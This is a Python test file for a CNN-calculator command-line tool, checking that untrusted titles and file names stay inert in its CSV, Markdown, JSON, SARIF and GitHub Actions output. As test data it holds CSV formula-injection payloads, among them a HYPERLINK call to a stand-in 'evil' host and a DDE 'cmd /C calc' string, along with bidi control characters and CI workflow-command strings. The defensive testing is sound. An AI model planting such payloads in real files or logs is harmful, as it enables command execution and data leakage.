"""Titles and names that somebody else wrote: a spreadsheet, GitHub and a terminal take them for what they are, texts."""

import csv
import json
import re

import pytest

from cnncalc.render.markdown import escaped

pytestmark = pytest.mark.usefixtures("folder")

SPEC = 'input 3x8x8\nconv 4 3\nrequire params < 5 "{}"\n'
FORMULAS = ['+HYPERLINK("http://evil/"&A1,"x")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "＝1+1", "＋1"]


@pytest.mark.parametrize("title", FORMULAS)
def test_no_title_is_a_formula(run, folder, title):
    (folder / "a.txt").write_text(f"model {title}\n{SPEC}", "utf-8")
    rows = list(csv.DictReader(run("compare", "a.txt", "@lenet5", "--format", "csv").stdout.splitlines()))
    assert rows[0]["model"] == f"'{title}"
    for words in (
        ["compare", "a.txt", "--mlp"],
        ["memory", "a.txt"],
        ["shapes", "a.txt"],
        ["diff", "a.txt", "@lenet5"],
    ):
        for row in csv.reader(run(*words, "--format", "csv").stdout.splitlines()):
            assert not any(cell.startswith(("=", "+", "@", "＝", "＋")) for cell in row), (words, row)
            assert not any(re.match(r"-(?!\d+$)", cell) for cell in row), (words, row)


@pytest.mark.parametrize("name", ["=1+1.txt", "+1.txt", "@SUM(A1).txt"])
def test_no_file_name_is_a_formula(run, folder, name):
    (folder / name).write_text(SPEC)
    rows = list(csv.DictReader(run("compare", f"./{name}", name, "--format", "csv").stdout.splitlines()))
    assert {row["file"] for row in rows} <= {f"./{name}", f"'{name}"}


def test_numbers_stay_numbers(run, folder):
    (folder / "a.txt").write_text(SPEC)
    row = next(csv.DictReader(run("compare", "a.txt", "@lenet5", "--format", "csv").stdout.splitlines()))
    assert row["params"] == "112"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("@octocat", "@&#8203;octocat"),
        ("ask @my-org/team now", "ask @&#8203;my-org/team now"),
        ("fixes #12", "fixes #&#8203;12"),
        ("owner/repo#12 gh-7", "owner/repo#&#8203;12 gh-&#8203;7"),
        ("https://evil.example", "https:&#8203;//evil.example"),
        ("HTTP://evil.example www.evil.example", "HTTP:&#8203;//evil.example www&#8203;.evil.example"),
        ("mailto:a@b.c xmpp:a", "mailto:&#8203;a@&#8203;b.c xmpp:&#8203;a"),
        ("&lt;b&gt; AT&T", "\\&lt;b\\&gt; AT\\&T"),
        ("$x$ and $$y$$", "<span>$</span>x<span>$</span> and <span>$</span><span>$</span>y<span>$</span><span>$</span>"),
        ("_em_ __strong__", "\\_em\\_ \\_\\_strong\\_\\_"),
        ("snake_case_name", "snake_case_name"),
        ("# title", "\\# title"),
        ("[a](b) `c` *d* <e> | ~f~", "\\[a\\](b) \\`c\\` \\*d\\* \\<e\\> \\| \\~f\\~"),
        ("conv 64 3×3, 5.3 M parameters - 10 %", "conv 64 3×3, 5.3 M parameters - 10 %"),
    ],
)  # fmt: skip
def test_markdown_makes_nothing_of_a_text(text, shown):
    assert escaped(text) == shown


def live(markdown: str) -> list[str]:
    """What GitHub would make a mention, a link or mathematics of: outside of code."""
    text = re.sub(r"(`{3,}).*?\n\1\n", "", markdown, flags=re.DOTALL)
    text = re.sub(r"`[^`\n]*`", "", text)
    return re.findall(r"@\w+|(?<!&)#\d+|\w+://\S+|www\.|(?<!\\)&\w+;|(?<!>)\$(?!<)|(?<![\\\w])_\w", text)


def test_no_document_has_anything_live_of_a_spec(run, folder):
    title = "@octocat #12 https://evil.example www.evil.example &lt; $x$ _em_"
    (folder / "a.txt").write_text(f"model {title}\n{SPEC.format(title.replace('$', ''))}_x_ = relu\n")
    (folder / "@user #3 _b_.txt").write_text(f"model other\n{SPEC}")
    for words in (["shapes"], ["memory"], ["explain"], ["explain", "a.txt", "_x_"], ["compare"], ["compare", "@lenet5"],
                  ["compare", "./@user #3 _b_.txt"], ["compare", "--layer", "conv1"], ["diff", "./@user #3 _b_.txt"]):  # fmt: skip
        command, *rest = words
        arguments = rest if rest[:1] == ["a.txt"] else ["a.txt", *rest]
        assert live(run(command, *arguments, "--format", "markdown").stdout) == [], words


def test_a_fence_is_longer_than_any_in_it(run, folder):
    (folder / "a.txt").write_text("model ```` x\n" + SPEC)
    lines = run("compare", "a.txt", "@lenet5", "--layer", "conv1", "--format", "markdown").stdout.splitlines()
    if any("````" in line and not line.startswith("`````") for line in lines):
        assert "`````" in lines


HIDDEN = "a\x7f\x9b31m\u202eb\u2066c\u200bd.txt"


@pytest.mark.parametrize("words", [["shapes"], ["memory"], ["explain"], ["compare"], ["check"], ["diff", HIDDEN]])
def test_json_has_controls_and_what_turns_the_order_escaped(run, folder, words):
    (folder / HIDDEN).write_text(SPEC)
    text = run(words[0], HIDDEN, *words[1:], "--format", "json").stdout
    assert all(line.isprintable() for line in text.split("\n"))
    assert "\\u202e" in text
    assert HIDDEN in json.dumps(json.loads(text), ensure_ascii=False)


def test_sarif_and_baselines_have_them_escaped_too(run, folder):
    (folder / HIDDEN).write_text("input 3x8x8\nconv 4 9\n")
    text = run("check", HIDDEN, "--format", "sarif").stdout
    assert all(line.isprintable() for line in text.split("\n"))
    (folder / HIDDEN).write_text("input 3x8x8\nconv 4 3\n")
    assert run("check", "--update-baseline", HIDDEN).exit_code == 0
    text = (folder / "cnncalc-baseline.json").read_text()
    assert all(line.isprintable() for line in text.split("\n"))
    assert run("check", HIDDEN).exit_code == 0


def test_all_else_beyond_ascii_stands_as_it_is(run, folder):
    (folder / "a.txt").write_text("model 漢字 é 😀\n" + SPEC, "utf-8")
    assert '"model": "漢字 é 😀"' in run("shapes", "a.txt", "--format", "json").stdout


@pytest.mark.parametrize("words", [
    "check NAME --format junit", "check NAME --format json", "check NAME --format sarif", "check NAME --format text",
    "check NAME --format concise", "compare NAME NAME --format csv", "compare NAME NAME --format markdown",
    "shapes NAME", "shapes NAME --format json", "shapes NAME --format csv", "memory NAME", "explain NAME conv1",
    "draw NAME", "draw NAME --format svg", "draw NAME --format html", "draw NAME --format mermaid",
    "draw NAME --format dot", "draw NAME --format tikz", "report NAME", "convert NAME --to spec", "diff NAME NAME --all",
    "annotate --diff NAME", "fmt --diff NAME",
])  # fmt: skip
def test_nothing_that_a_runner_prints_is_a_command(run, folder, words, monkeypatch):
    name = "::error::x##[debug].txt"
    text = 'model ::error::##[debug]\ninput 3x8x8\nconv  4 3\nrequire params < 3 "::error::##[debug]"\n'
    (folder / name).write_text(text)
    plain = run(*words.replace("NAME", name).split())
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    result = run(*words.replace("NAME", name).split())
    assert result.output
    obeyed = [line for line in result.output.splitlines() if line.lstrip().startswith("::") or "##[" in line]
    assert [line for line in obeyed if not line.startswith("::error file=")] == []
    if words.endswith("json"):
        assert json.loads(result.stdout) == json.loads(plain.stdout)
